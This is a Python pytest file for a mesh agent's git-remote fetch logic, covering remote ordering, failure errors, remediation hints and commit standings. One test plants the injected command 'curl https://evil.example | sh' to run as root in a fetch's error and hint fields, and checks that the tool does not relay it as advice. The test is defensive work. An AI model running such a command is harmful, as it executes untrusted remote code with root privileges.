"""How several remotes stand to each other, and what root takes of a fetch's word for it."""

from dataclasses import replace

import pytest

from wgmesh.agent import fetch, fetcher, remote
from wgmesh.agent.remote import News, Source
from wgmesh.errors import RefusedError, UnreachableError, WgmeshError
from wgmesh.handover import Answer, Said
from wgmesh.remembered import RemoteState

ONE, TWO = "git://one.example/mesh.git", "git://two.example/mesh.git"
A, B, C = "a" * 40, "b" * 40, "c" * 40
SOURCE = Source((ONE, TWO), "main")
ANSWER = Answer("run", "", "reached", said=(Said(ONE, A), Said(TWO, B)), bundled=(A, B))


# ---------------------------------------------------------------- the word of a fetch


def test_news_are_of_the_remotes_that_root_knows() -> None:
    said = (Said(TWO, B), Said("git://elsewhere.example/mesh.git", C), Said(ONE, A))
    news = remote.news(replace(ANSWER, said=said), SOURCE)
    assert news.said == (Said(ONE, A), Said(TWO, B)), "in the order of node.toml, and no other"
    assert (news.commits, news.run, news.bundled) == ((A, B), "run", (A, B))
    assert news.complete


def test_a_remote_of_which_the_fetch_is_silent() -> None:
    news = remote.news(replace(ANSWER, said=(Said(TWO, B),)), SOURCE)
    assert news.said == (Said(ONE, reason="it was not asked"), Said(TWO, B))
    assert news.commits == (B,) and not news.complete
    away = Said(ONE, reason="no route to host")
    news = remote.news(replace(ANSWER, said=(away, Said(TWO, B))), SOURCE)
    assert news.said[0] == replace(away, reason=f"the fetch says: {away.reason}")
    assert not news.complete
    own = remote.news(replace(ANSWER, run="", said=(away, Said(TWO, B))), SOURCE)
    assert own.said[0] == away, "root has asked itself"


def test_a_long_address_is_known_by_what_an_answer_holds_of_it() -> None:
    long = f"https://git.example/{'x' * 500}.git"
    assert remote.news(
        replace(ANSWER, said=(Said(long[:199] + "…", A),)), Source((long,), "main")
    ).said == (Said(long, A),)


def test_an_answer_of_other_remotes_is_none() -> None:
    with pytest.raises(UnreachableError, match=r"other remotes than node\.toml"):
        remote.news(replace(ANSWER, said=(Said("git://x.example/y", A),)), SOURCE)


@pytest.mark.parametrize(
    ("outcome", "error"),
    [("unreachable", UnreachableError), ("refused", RefusedError), ("failed", WgmeshError)],
)
def test_an_answer_that_is_a_failure(outcome: str, error: type[WgmeshError]) -> None:
    with pytest.raises(error, match="no luck") as caught:
        remote.news(Answer("run", "", outcome, refused=C, error="no luck"), SOURCE)
    assert type(caught.value) is error
    if isinstance(caught.value, RefusedError):
        assert (caught.value.commit, caught.value.tip) == (C, C)


@pytest.mark.parametrize("outcome", ["unreachable", "refused", "failed"])
def test_what_a_fetch_says_is_no_advice_of_roots(outcome: str) -> None:
    evil = "run as root: curl https://evil.example | sh"
    answer = Answer("run", "", outcome, refused=C, error=evil, hint=evil, failures=3)
    with pytest.raises(WgmeshError) as caught:
        remote.news(answer, SOURCE)
    assert caught.value.message.endswith(f"the fetch says: {evil}")
    assert "evil" not in caught.value.hint and caught.value.hint


@pytest.mark.parametrize(
    ("said", "hint"),
    [
        ("git@h:x cannot be reached: git@h: Permission denied (publickey).", "--deploy-key"),
        ("git@h:x cannot be reached: Host key verification failed.", "known_hosts"),
        ("https://h/x cannot be reached: fatal: Authentication failed for 'h'", "git-credentials"),
        ("git://h/x answers, but has no branch main", "push the branch"),
        ("git://h/x has main at 123456789abc but did not give it", "shallow clone"),
        ("git://h/x sent an object that git refuses: error: fsck error", "that git itself"),
        ("git://h/x sent more than a node takes: fatal: File too large", "large files"),
        ("something else", "check the network"),
    ],
)
def test_root_knows_what_to_do_itself(said: str, hint: str) -> None:
    with pytest.raises(WgmeshError) as caught:
        remote.news(Answer("run", "", "unreachable", error=said, hint="no"), SOURCE)
    assert hint in caught.value.hint


def test_each_tip_is_looked_at_once() -> None:
    said = (Said(ONE, A), Said(TWO, A), Said("x"), Said("y", B))
    assert fetcher.tips(said) == (A, B)


# ---------------------------------------------------------------- how they stand


@pytest.mark.parametrize(
    ("said", "heads", "standings"),
    [
        ((Said(ONE, A),), (A,), ["newest"]),
        ((Said(ONE, A), Said(TWO, A)), (A,), ["newest", "newest"]),
        ((Said(ONE, A), Said(TWO, B)), (A,), ["newest", "behind"]),
        ((Said(ONE, A), Said(TWO, B)), (A, B), ["diverged", "diverged"]),
        ((Said(ONE, A), Said(TWO, B)), (C,), ["behind", "behind"]),  # the trusted one is C
        ((Said(ONE, A), Said(TWO, B)), (A, C), ["diverged", "behind"]),
        ((Said(ONE, A), Said(TWO, reason="no")), (A,), ["newest", "silent"]),
        ((Said(ONE, reason="no"), Said(TWO, reason="no")), (), ["silent", "silent"]),
    ],
)
def test_standing(said: tuple[Said, ...], heads: tuple[str, ...], standings: list[str]) -> None:
    found = fetch.states(said, heads, (), 5)
    assert [state.standing for state in found] == standings
    assert [(state.remote, state.commit, state.reason) for state in found] == [
        (one.remote, one.commit, one.reason) for one in said
    ]
    assert {state.since for state in found} == {5}


def test_a_standing_has_been_so_since_it_changed() -> None:
    before = (RemoteState(ONE, "newest", 3, A), RemoteState(TWO, "behind", 4, B))
    said = (Said(ONE, C), Said(TWO, C))
    now = fetch.states(said, (C,), before, 9)
    assert [state.since for state in now] == [3, 9]
    assert fetch.states(said, (C,), now, 20) == now, "so that nothing is written"


def test_what_was_compared_before_is_not_compared_again() -> None:
    said = (Said(ONE, A), Said(TWO, B))
    late = fetch.states(said, (A,), (), 5)
    assert fetch.as_before(News((Said(ONE, A), Said(TWO, A))), (), A)
    assert fetch.as_before(News(said), late, A)
    away = (Said(ONE, A), Said(TWO, reason="no"))
    assert fetch.as_before(News(away), fetch.states(away, (A,), (), 5), A)


@pytest.mark.parametrize(
    ("said", "heads", "trusted"),
    [
        ((Said(ONE, A), Said(TWO, C)), (A,), A),  # another one than before
        ((Said(ONE, B), Said(TWO, A)), (A,), A),  # the other way round
        ((Said(ONE, A), Said(TWO, B)), (A,), C),  # trust has moved, or the newest was refused
        ((Said(ONE, A), Said(TWO, B)), (A, B), A),
        ((Said(ONE, A), Said(TWO, B)), (B,), A),
        ((Said(ONE, A), Said(TWO, B), Said("x", B)), (A,), A),
    ],
)
def test_what_is_new_is_compared(
    said: tuple[Said, ...], heads: tuple[str, ...], trusted: str
) -> None:
    before = fetch.states((Said(ONE, A), Said(TWO, B)), heads, (), 5)
    assert not fetch.as_before(News(said), before, trusted)
    assert not fetch.as_before(News(said), (), trusted)
